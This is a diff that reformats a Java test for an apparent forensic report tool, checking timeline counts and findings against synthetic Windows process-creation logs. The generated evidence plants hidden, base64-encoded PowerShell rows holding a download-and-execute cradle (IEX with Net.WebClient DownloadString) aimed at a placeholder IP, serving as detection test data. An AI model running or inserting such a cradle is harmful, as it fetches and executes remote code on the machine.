@@ -40,25 +40,33 @@ class CutReportTest {
 
     private void cut(int rows) throws Exception {
         Path file = home.resolve("report.html");
-        Ran ran = Command.spoor(home, "investigate", evidence(rows), "-o", file).run().exits(0);
+        Ran ran = Command.spoor(home, "investigate", evidence(rows), "-o", file)
+                .run()
+                .exits(0);
         System.out.println(rows + " rows: " + ran.cost() + ", report of " + (Files.size(file) >> 20) + " MiB");
         String report = Files.readString(file, StandardCharsets.UTF_8);
         JsonNode document = new ObjectMapper().readTree(island(report, "id=\"document\""));
 
-        JsonNode timeline = document.at("/view/views").valueStream()
+        JsonNode timeline = document.at("/view/views")
+                .valueStream()
                 .filter(view -> view.path("kind").asText().equals("timeline"))
                 .findFirst()
                 .orElseThrow();
         assertEquals(SHOWN, timeline.path("shown").asInt());
         assertEquals(rows, timeline.path("total").asInt());
-        assertEquals(rows, timeline.at("/histogram/series").valueStream()
-                .flatMap(series -> series.path("counts").valueStream())
-                .mapToLong(JsonNode::asLong)
-                .sum());
+        assertEquals(
+                rows,
+                timeline.at("/histogram/series")
+                        .valueStream()
+                        .flatMap(series -> series.path("counts").valueStream())
+                        .mapToLong(JsonNode::asLong)
+                        .sum());
 
         Set<String> behind = new HashSet<>();
-        document.path("findings").forEach(finding -> finding.path("rows")
-                .forEach(row -> behind.add(row.get(0).asLong() + ":" + row.get(1).asLong())));
+        document.path("findings")
+                .forEach(finding -> finding.path("rows")
+                        .forEach(row -> behind.add(
+                                row.get(0).asLong() + ":" + row.get(1).asLong())));
         assertEquals(PLANTED, behind.size(), "rows behind findings");
         Set<String> kept = origins(report, timeline.at("/streams/0/table").asText());
         assertEquals(SHOWN, kept.size());
@@ -67,15 +75,21 @@ class CutReportTest {
 
     /** Two rows a second; ten of them are encoded PowerShell. */
     private Path evidence(int rows) throws Exception {
-        String encoded = Base64.getEncoder().encodeToString(
-                "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.7/a')".getBytes(StandardCharsets.UTF_16LE));
+        String encoded = Base64.getEncoder()
+                .encodeToString("IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.7/a')"
+                        .getBytes(StandardCharsets.UTF_16LE));
         Path file = home.resolve("events.csv");
         try (BufferedWriter out = Files.newBufferedWriter(file)) {
-            out.write("TimeCreated,EventID,Computer,SubjectUserName,NewProcessName,CommandLine,ProcessId,NewProcessId\n");
+            out.write(
+                    "TimeCreated,EventID,Computer,SubjectUserName,NewProcessName,CommandLine,ProcessId,NewProcessId\n");
             for (int i = 0; i < rows; i++) {
                 boolean planted = i % (rows / PLANTED) == 77;
-                out.write(java.time.Instant.ofEpochSecond(1_767_225_600L + i / 2) + ",4688,WS" + i % 200 + ",user" + i % 300 + ",");
-                out.write(planted ? "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" : "C:\\Program Files\\p.exe");
+                out.write(java.time.Instant.ofEpochSecond(1_767_225_600L + i / 2) + ",4688,WS" + i % 200 + ",user"
+                        + i % 300 + ",");
+                out.write(
+                        planted
+                                ? "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
+                                : "C:\\Program Files\\p.exe");
                 out.write(planted ? ",powershell.exe -w hidden -enc " + encoded : ",p.exe --job " + i);
                 out.write(String.format(Locale.ROOT, ",0x%x,0x%x%n", i % 60_000, (i + 7) % 60_000));
             }
@@ -84,7 +98,8 @@ class CutReportTest {
     }
 
     private static String island(String report, String attribute) {
-        Matcher island = Pattern.compile("<script type=\"application/json\" " + attribute + ">(.*?)</script>", Pattern.DOTALL)
+        Matcher island = Pattern.compile(
+                        "<script type=\"application/json\" " + attribute + ">(.*?)</script>", Pattern.DOTALL)
                 .matcher(report);
         assertTrue(island.find(), attribute);
         return island.group(1);
@@ -93,7 +108,8 @@ class CutReportTest {
     /** The ids of a table's rows: its first column, each number told as what it is more than the one before. */
     private static Set<String> origins(String report, String table) throws Exception {
         Set<String> origins = new HashSet<>();
-        Matcher island = Pattern.compile("<script type=\"application/json\" data-table=\"" + table + "\">([^<]*)<").matcher(report);
+        Matcher island = Pattern.compile("<script type=\"application/json\" data-table=\"" + table + "\">([^<]*)<")
+                .matcher(report);
         while (island.find()) {
             JsonNode column = new ObjectMapper().readTree(island.group(1)).at("/cols/0");
             long ordinal = 0;
